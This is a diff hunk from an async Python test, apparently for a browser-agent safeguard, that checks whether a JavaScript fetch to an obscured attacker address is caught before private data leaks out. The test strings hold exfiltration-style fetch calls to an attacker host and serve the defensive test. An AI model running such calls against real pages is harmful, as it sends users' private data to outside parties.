@@ -138,9 +138,7 @@ async def test_a_script_that_hides_the_address_is_seen_where_it_sends(world: Wor
     hidden = f"fetch({address}, {{mode: 'no-cors'}}).catch(() => 'kept')"
     async with router(world, "ask") as web:
         await read_private(web, world)
-        said = await obey(
-            web, [b("evaluate", text=f"fetch({text}, {{mode: 'no-cors'}}).catch(() => 'kept')")]
-        )
+        said = await obey(web, [b("evaluate", text=hidden)])
         assert not knows(world.stolen), said
         harmless = f"fetch('{world.attacker}/?d=hi', {{mode: 'no-cors'}}).then(() => 'sent')"
         said = await obey(web, [b("evaluate", text=harmless)])
